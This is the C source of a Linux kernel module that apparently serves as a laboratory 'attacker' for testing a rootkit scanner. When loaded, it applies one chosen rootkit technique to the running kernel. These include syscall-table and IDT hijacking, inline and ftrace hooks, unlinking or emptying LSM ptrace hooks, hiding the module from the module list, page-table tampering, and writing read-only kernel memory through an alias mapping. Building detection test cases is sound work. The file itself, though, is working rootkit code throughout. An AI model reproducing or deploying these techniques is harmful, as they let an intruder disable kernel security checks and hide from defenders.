// SPDX-License-Identifier: GPL-2.0
/*
 * Laboratory attacker: changes the running kernel as rootkits do, once, when it is loaded.
 *
 *   insmod attack.ko attack=idt number=4
 *   cat /sys/module/attack/parameters/address      what was changed (virtual), and
 *   cat /sys/module/attack/parameters/physical     where it lies in memory; 0: nothing there
 *   cat /sys/module/attack/parameters/old          first 8 bytes before and after,
 *   cat /sys/module/attack/parameters/new          or fewer where fewer were written
 *
 * `symbol` names what is attacked, `into` the function that a hook leads to (empty: one of
 * this module's own, so that the module must stay). Nothing is ever put back. A function's address
 * is got as rootkits get it since kallsyms_lookup_name() is no longer exported: by a kprobe,
 * which is removed at once. What is read-only is written through a second mapping.
 */
#define pr_fmt(fmt) "attack: " fmt

#include <asm/desc_defs.h>
#include <asm/pgtable.h>
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/lsm_hooks.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/sched/mm.h>
#include <linux/sched/task.h>
#include <linux/static_call_types.h>
#include <linux/vmalloc.h>

/* Opcodes with a 32-bit displacement. */
#define CALL 0xe8
#define JMP 0xe9
#define BRANCH_SIZE 5

/* x64_sys_call() is far smaller (arch/x86/entry/syscall_64.c). */
#define SWITCH_SIZE_MAX (64 << 10)

/* The top-level entry through which the kernel's image is reached, at 4 and 5 levels. */
#define TOP_LEVEL_ENTRY 511

static char *attack = "none";
module_param(attack, charp, 0400);
MODULE_PARM_DESC(attack, "name of the attack, see the table at the end");

static char *symbol = "";
module_param(symbol, charp, 0400);
MODULE_PARM_DESC(symbol, "what is attacked; empty: the attack's usual target");

static char *into = "";
module_param(into, charp, 0400);
MODULE_PARM_DESC(into, "function that a hook leads to; empty: one of this module");

static unsigned int number;
module_param(number, uint, 0400);
MODULE_PARM_DESC(number, "which word, vector or process is attacked");

static unsigned long address;
module_param(address, ulong, 0400);
static unsigned long physical;
module_param(physical, ulong, 0400);
static unsigned long old;
module_param(old, ulong, 0400);
static unsigned long new;
module_param(new, ulong, 0400);

static unsigned long (*lookup)(const char *name);

/* Where hooks lead to: "succeeded, nothing to do". */
static noinline notrace unsigned long landing(void)
{
	return 0;
}

static unsigned long destination(void)
{
	return *into ? lookup(into) : (unsigned long)landing;
}

/* Remember what was changed; the first change counts. */
static void note(unsigned long at, const void *before, const void *after, size_t length)
{
	if (address)
		return;
	address = at;
	physical = slow_virt_to_phys((void *)at);
	memcpy(&old, before, min(length, sizeof(old)));
	memcpy(&new, after, min(length, sizeof(new)));
}

/* Write through a writable mapping of the same frames, which is gone afterwards. */
static int store(unsigned long at, const void *bytes, size_t length)
{
	unsigned int count = PFN_UP(offset_in_page(at) + length), i;
	struct page *pages[2];
	void *alias;

	if (!at || count > ARRAY_SIZE(pages))
		return -EFAULT;
	for (i = 0; i < count; i++)
		pages[i] = pfn_to_page(
			PHYS_PFN(slow_virt_to_phys((void *)((at & PAGE_MASK) + i * PAGE_SIZE))));
	alias = vmap(pages, count, VM_MAP, PAGE_KERNEL);
	if (!alias)
		return -ENOMEM;
	note(at, alias + offset_in_page(at), bytes, length);
	memcpy(alias + offset_in_page(at), bytes, length);
	vunmap(alias);
	return 0;
}

static int store_branch(unsigned long at, u8 opcode, unsigned long to)
{
	u8 bytes[BRANCH_SIZE] = { opcode };
	s32 displacement = to - (at + BRANCH_SIZE);

	if (!to)
		return -ENOENT;
	memcpy(bytes + 1, &displacement, sizeof(displacement));
	return store(at, bytes, sizeof(bytes));
}

static unsigned long branch_target(unsigned long at)
{
	return at + BRANCH_SIZE + *(s32 *)(at + 1);
}

/* The case of one system call in the switch that dispatches them. */
static int attack_syscall_code(unsigned long target)
{
	unsigned long body = lookup("x64_sys_call"), at;
	u8 opcode;

	if (!body)
		return -ENOENT;
	for (at = body; at < body + SWITCH_SIZE_MAX; at++) {
		opcode = *(u8 *)at;
		if ((opcode == CALL || opcode == JMP) && branch_target(at) == target)
			return store_branch(at, opcode, destination());
	}
	return -ESRCH;
}

/* One function pointer of a table in read-only data. */
static int attack_pointer(unsigned long table)
{
	unsigned long to = destination();

	return to ? store(table + number * sizeof(to), &to, sizeof(to)) : -ENOENT;
}

static int attack_idt(unsigned long table)
{
	unsigned long at = table + number * sizeof(gate_desc), to = destination();
	gate_desc gate;

	if (number >= 256 || !to)
		return -EINVAL;
	memcpy(&gate, (void *)at, sizeof(gate));
	gate.offset_low = to;
	gate.offset_middle = to >> 16;
	gate.offset_high = to >> 32;
	return store(at, &gate, sizeof(gate));
}

static int attack_lsm_hook(unsigned long heads_at)
{
	struct security_hook_heads *heads = (void *)heads_at;
	unsigned long to = destination();
	struct security_hook_list *hook;

	if (hlist_empty(&heads->ptrace_access_check) || !to)
		return -ENOENT;
	hook = hlist_entry(heads->ptrace_access_check.first, struct security_hook_list, list);
	return store((unsigned long)&hook->hook, &to, sizeof(to));
}

static int attack_lsm_remove(unsigned long heads_at)
{
	struct security_hook_heads *heads = (void *)heads_at;
	struct hlist_node *node = heads->ptrace_access_check.first;
	struct hlist_node **before, *behind;
	int error;

	if (!node)
		return -ENOENT;
	while (node->next)
		node = node->next;
	before = node->pprev;
	behind = node->next;
	error = store((unsigned long)before, &behind, sizeof(behind));
	if (!error && behind)
		error = store((unsigned long)&behind->pprev, &before, sizeof(before));
	return error;
}

static int attack_lsm_empty(unsigned long heads_at)
{
	struct security_hook_heads *heads = (void *)heads_at;
	struct hlist_node *none = NULL;

	return store((unsigned long)&heads->ptrace_access_check, &none, sizeof(none));
}

/* A call where the tracer would have put one, without the tracer. */
static int attack_ftrace_call(unsigned long function)
{
	return store_branch(function, CALL, destination());
}

static int attack_inline(unsigned long function)
{
	return store_branch(function, JMP, destination());
}

static int attack_static_call(unsigned long key)
{
	struct static_call_site *site = (void *)lookup("__start_static_call_sites");
	struct static_call_site *stop = (void *)lookup("__stop_static_call_sites");
	unsigned long at, of;

	if (!site || !stop)
		return -ENOENT;
	for (; site < stop; site++) {
		at = (unsigned long)&site->addr + site->addr;
		of = ((unsigned long)&site->key + site->key) & ~3UL;
		if (of == key && *(u8 *)at == CALL)
			return store_branch(at, CALL, destination());
	}
	return -ESRCH;
}

static int attack_trampoline(unsigned long trampoline)
{
	if (*(u8 *)trampoline != JMP)
		return -EBUSY;
	return store_branch(trampoline, JMP, destination());
}

/* Change the leaf entry that maps an address; its tables are writable as they are. */
static int change_entry(unsigned long at, u64 clear, u64 set)
{
	void (*flush)(void) = (void *)lookup("flush_tlb_all");
	unsigned int level;
	u64 *entry = (u64 *)lookup_address(at, &level);
	u64 content;

	if (!entry || !flush)
		return -EFAULT;
	content = (*entry & ~clear) | set;
	note((unsigned long)entry, entry, &content, sizeof(content));
	WRITE_ONCE(*entry, content);
	flush();
	return 0;
}

static int attack_writable(unsigned long at)
{
	return change_entry(at, 0, _PAGE_RW);
}

static int attack_executable(unsigned long at)
{
	return change_entry(at, _PAGE_NX, 0);
}

/* Only the list forgets the module: its code, and its directory in sysfs, stay. */
static int attack_hide(unsigned long unused)
{
	struct list_head *before = THIS_MODULE->list.prev, *behind = THIS_MODULE->list.next;

	note((unsigned long)&before->next, &before->next, &behind, sizeof(behind));
	list_del(&THIS_MODULE->list);
	return 0;
}

/* Give one process another table for the part of the address space with the kernel's image. */
static int attack_top_level(unsigned long unused)
{
	struct pid *process = find_get_pid(number);
	struct task_struct *task = get_pid_task(process, PIDTYPE_PID);
	struct mm_struct *mm;
	u64 *entry, content;
	void *copy;

	put_pid(process);
	if (!task)
		return -ESRCH;
	mm = get_task_mm(task);
	put_task_struct(task);
	if (!mm)
		return -ESRCH;
	copy = (void *)__get_free_page(GFP_KERNEL);
	if (copy) {
		entry = (u64 *)mm->pgd + TOP_LEVEL_ENTRY;
		copy_page(copy, __va(*entry & PTE_PFN_MASK));
		content = __pa(copy) | (*entry & ~PTE_PFN_MASK);
		note((unsigned long)entry, entry, &content, sizeof(content));
		WRITE_ONCE(*entry, content);
	}
	mmput(mm);
	return copy ? 0 : -ENOMEM;
}

/* Executable memory that belongs to nothing: xor eax,eax; ret. */
static int attack_code(unsigned long unused)
{
	int (*executable)(unsigned long, int) = (void *)lookup("set_memory_x");
	int (*read_only)(unsigned long, int) = (void *)lookup("set_memory_ro");
	static const u8 code[] = { 0x31, 0xc0, 0xc3 };
	void *page = vzalloc(PAGE_SIZE);

	if (!page || !executable || !read_only)
		return -ENOMEM;
	note((unsigned long)page, page, code, sizeof(code));
	memcpy(page, code, sizeof(code));
	read_only((unsigned long)page, 1);
	return executable((unsigned long)page, 1);
}

/* A writable mapping of code that stays, and through which nothing is written yet. */
static int attack_alias(unsigned long at)
{
	struct page *page = pfn_to_page(PHYS_PFN(slow_virt_to_phys((void *)at)));
	void *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!alias)
		return -ENOMEM;
	note((unsigned long)alias, alias, alias, sizeof(old));
	return 0;
}

static void tracing(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
		    struct ftrace_regs *regs)
{
}

static struct ftrace_ops tracer = { .func = tracing, .flags = FTRACE_OPS_FL_SAVE_REGS };

/* A hook by the kernel's own means, as most rootkits of today set it. */
static int attack_ftrace_ops(unsigned long function)
{
	int error = ftrace_set_filter_ip(&tracer, function, 0, 0);
	u8 before[8];

	if (error)
		return error;
	memcpy(before, (void *)function, sizeof(before));
	error = register_ftrace_function(&tracer);
	if (!error)
		note(function, before, (void *)function, sizeof(before));
	return error;
}

static int attack_none(unsigned long unused)
{
	return 0;
}

/* Targets are in no use in the laboratory's guest, so that it lives on. */
static const struct {
	const char *name;
	const char *symbol; /* usual target; NULL: the attack needs none */
	int (*run)(unsigned long at);
} attacks[] = {
	{ "none", NULL, attack_none },
	{ "syscall-code", "__x64_sys_acct", attack_syscall_code },
	{ "pointer", "sys_call_table", attack_pointer },
	{ "idt", "idt_table", attack_idt },
	{ "lsm-hook", "security_hook_heads", attack_lsm_hook },
	{ "lsm-remove", "security_hook_heads", attack_lsm_remove },
	{ "lsm-empty", "security_hook_heads", attack_lsm_empty },
	{ "ftrace-call", "__x64_sys_acct", attack_ftrace_call },
	{ "ftrace-ops", "__x64_sys_acct", attack_ftrace_ops },
	{ "inline", "__x64_sys_acct", attack_inline },
	{ "static-call", "__SCK__tp_func_sys_enter", attack_static_call },
	{ "trampoline", "__SCT__tp_func_sys_enter", attack_trampoline },
	{ "writable", "virtblk_probe", attack_writable },
	{ "executable", "__start_rodata", attack_executable },
	{ "alias", "__x64_sys_acct", attack_alias },
	{ "code", NULL, attack_code },
	{ "hide", NULL, attack_hide },
	{ "top-level", NULL, attack_top_level },
};

static int find_lookup(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	int error = register_kprobe(&probe);

	if (error)
		return error;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	return 0;
}

static int __init attack_init(void)
{
	unsigned long at = 0;
	int error = find_lookup();
	unsigned int i;

	if (error)
		return error;
	for (i = 0; i < ARRAY_SIZE(attacks); i++)
		if (!strcmp(attacks[i].name, attack))
			break;
	if (i == ARRAY_SIZE(attacks))
		return -EINVAL;
	if (attacks[i].symbol) {
		at = lookup(*symbol ? symbol : attacks[i].symbol);
		if (!at)
			return -ENOENT;
	}
	error = attacks[i].run(at);
	pr_info("%s: %d, virtual %#lx physical %#lx old %#lx new %#lx\n", attack, error, address,
		physical, old, new);
	return error;
}

static void __exit attack_exit(void)
{
	if (tracer.flags & FTRACE_OPS_FL_ENABLED)
		unregister_ftrace_function(&tracer);
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_DESCRIPTION("pyscan laboratory: one attack of a rootkit on the running kernel");
MODULE_LICENSE("GPL");
